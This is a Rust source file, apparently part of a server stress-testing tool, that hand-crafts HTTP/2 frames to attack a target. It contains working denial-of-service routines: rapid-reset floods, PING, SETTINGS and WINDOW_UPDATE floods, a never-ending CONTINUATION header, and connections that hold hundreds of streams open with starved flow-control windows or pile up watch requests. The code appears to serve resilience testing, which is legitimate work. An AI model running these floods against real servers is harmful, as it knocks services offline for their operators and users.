//! HTTP/2 as no client library would send it: frames by hand (RFC 9113).

use super::Error;
use super::wire::{Target, is_closed};
use std::time::{Duration, Instant};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio_rustls::client::TlsStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
const INITIAL_WINDOW_SIZE: u8 = 4;

pub struct Http2 {
    stream: TlsStream<TcpStream>,
    authorization: Option<String>,
    next: u32,
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A string of HPACK without Huffman's coding (RFC 7541, section 5).
fn string(text: &str) -> Vec<u8> {
    let mut bytes = Vec::new();
    if text.len() < 127 {
        bytes.extend(u8::try_from(text.len()));
    } else {
        bytes.push(127);
        let mut rest = text.len() - 127;
        while rest >= 128 {
            bytes.extend(u8::try_from(rest % 128 + 128));
            rest /= 128;
        }
        bytes.extend(u8::try_from(rest));
    }
    bytes.extend_from_slice(text.as_bytes());
    bytes
}

impl Http2 {
    /// With this initial window of each stream.
    pub async fn connect(target: &Target, window: u32) -> Result<Self, Error> {
        let mut stream = target.http2().await?;
        let window = [&[0, INITIAL_WINDOW_SIZE][..], &window.to_be_bytes()].concat();
        stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, &window)].concat()).await?;
        stream.flush().await?;
        Ok(Self { stream, authorization: target.authorization(), next: 1 })
    }

    /// GET, :scheme https, and the rest as literals that are not kept.
    fn block(&self, path: &str) -> Vec<u8> {
        let mut block = vec![0x82, 0x87, 0x04];
        block.extend(string(path));
        block.push(0x01);
        block.extend(string("a"));
        if let Some(authorization) = &self.authorization {
            block.extend([0x0f, 0x08]);
            block.extend(string(authorization));
        }
        block
    }

    fn get(&mut self, path: &str) -> (u32, Vec<u8>) {
        let id = self.next;
        self.next += 2;
        (id, frame(HEADERS, END_STREAM | END_HEADERS, id, &self.block(path)))
    }

    /// Opens so many streams for a path at once.
    pub async fn gets(&mut self, path: &str, count: usize) -> Result<(), Error> {
        for _ in 0..count {
            let (_, headers) = self.get(path);
            self.stream.write_all(&headers).await?;
        }
        Ok(self.stream.flush().await?)
    }

    /// Sends what `make` makes for so long or until the server ends the connection; what was sent, and whether it did.
    async fn pour(mut self, time: Duration, mut make: impl FnMut(&mut Self) -> Vec<u8>) -> (usize, bool) {
        let (began, mut sent) = (Instant::now(), 0);
        while began.elapsed() < time {
            let batch = make(&mut self);
            sent += batch.len();
            let write = tokio::time::timeout(time, self.stream.write_all(&batch));
            if !matches!(write.await, Ok(Ok(()))) {
                return (sent, true);
            }
            if is_closed(&mut self.stream, Duration::from_millis(1)).await {
                return (sent, true);
            }
        }
        (sent, is_closed(&mut self.stream, Duration::from_millis(500)).await)
    }

    /// Reads what there is for so long: how many bytes, and whether the connection is open still.
    pub async fn drain(&mut self, time: Duration) -> (usize, bool) {
        let (mut buffer, mut bytes) = (vec![0; 16_384], 0);
        let ended = tokio::time::timeout(time, async {
            while let Ok(read @ 1..) = self.stream.read(&mut buffer).await {
                bytes += read;
            }
        });
        let open = ended.await.is_err();
        (bytes, open)
    }
}

fn told((sent, ended): (usize, bool)) -> Result<(String, bool), Error> {
    Ok((
        format!("{} KiB sent, {}", sent / 1024, if ended { "connection ended" } else { "connection open" }),
        ended,
    ))
}

/// Requests that are taken back at once, many in each packet.
pub async fn resets(target: &Target, time: Duration) -> Result<(String, bool), Error> {
    let connection = Http2::connect(target, 65_535).await?;
    told(
        connection
            .pour(time, |http| {
                let one = |http: &mut Http2| {
                    let (id, headers) = http.get("/version");
                    [headers, frame(RST_STREAM, 0, id, &8u32.to_be_bytes())].concat()
                };
                (0..50).flat_map(|_| one(http)).collect()
            })
            .await,
    )
}

/// Frames that want an acknowledgement or none, without any request.
pub async fn pings(target: &Target, time: Duration) -> Result<(String, bool), Error> {
    let connection = Http2::connect(target, 65_535).await?;
    told(connection.pour(time, |_| frame(PING, 0, 0, &[0; 8]).repeat(500)).await)
}

pub async fn settings(target: &Target, time: Duration) -> Result<(String, bool), Error> {
    let connection = Http2::connect(target, 65_535).await?;
    told(connection.pour(time, |_| frame(SETTINGS, 0, 0, &[]).repeat(500)).await)
}

pub async fn window_updates(target: &Target, time: Duration) -> Result<(String, bool), Error> {
    let connection = Http2::connect(target, 65_535).await?;
    // More than 2^31 in all is a mistake of the client's, so these are as small as they get.
    told(connection.pour(time, |_| frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()).repeat(500)).await)
}

/// A request's head that never ends.
pub async fn continuations(target: &Target, time: Duration) -> Result<(String, bool), Error> {
    let connection = Http2::connect(target, 65_535).await?;
    let mut begun = false;
    told(
        connection
            .pour(time, move |http| {
                let mut frames = Vec::new();
                if !std::mem::replace(&mut begun, true) {
                    frames.extend(frame(HEADERS, END_STREAM, 1, &http.block("/version")));
                }
                let header = [&[0x00][..], &string("x-a"), &string(&"b".repeat(100))].concat();
                frames.extend(frame(CONTINUATION, 0, 1, &header.repeat(10)).repeat(10));
                frames
            })
            .await,
    )
}

/// So many connections with 250 streams each that ask for a large answer and take nothing of it.
pub async fn deaf(
    target: &Target,
    path: &str,
    connections: usize,
    time: Duration,
) -> Result<(String, Vec<Http2>), Error> {
    let mut held = Vec::new();
    for n in 0..connections {
        // With a window of nothing no answer is begun; with one of a byte each is.
        let mut connection = Http2::connect(target, u32::from(n % 2 == 1)).await?;
        connection.gets(path, 250).await?;
        held.push(connection);
    }
    tokio::time::sleep(time).await;
    Ok((format!("{} streams", connections * 250), held))
}

/// Watches without number by one user; bytes that came back.
pub async fn watches(
    target: &Target,
    path: &str,
    connections: usize,
    time: Duration,
) -> Result<(String, Vec<Http2>), Error> {
    let mut held = Vec::new();
    for _ in 0..connections {
        let mut connection = Http2::connect(target, 1 << 20).await?;
        connection.gets(path, 250).await?;
        held.push(connection);
    }
    let (mut bytes, mut open) = (0, 0);
    let each = time / u32::try_from(connections.max(1)).unwrap_or(1);
    for connection in &mut held {
        let (read, is_open) = connection.drain(each).await;
        bytes += read;
        open += usize::from(is_open);
    }
    Ok((format!("{} watches asked, {} KiB, {open} connections open", connections * 250, bytes / 1024), held))
}
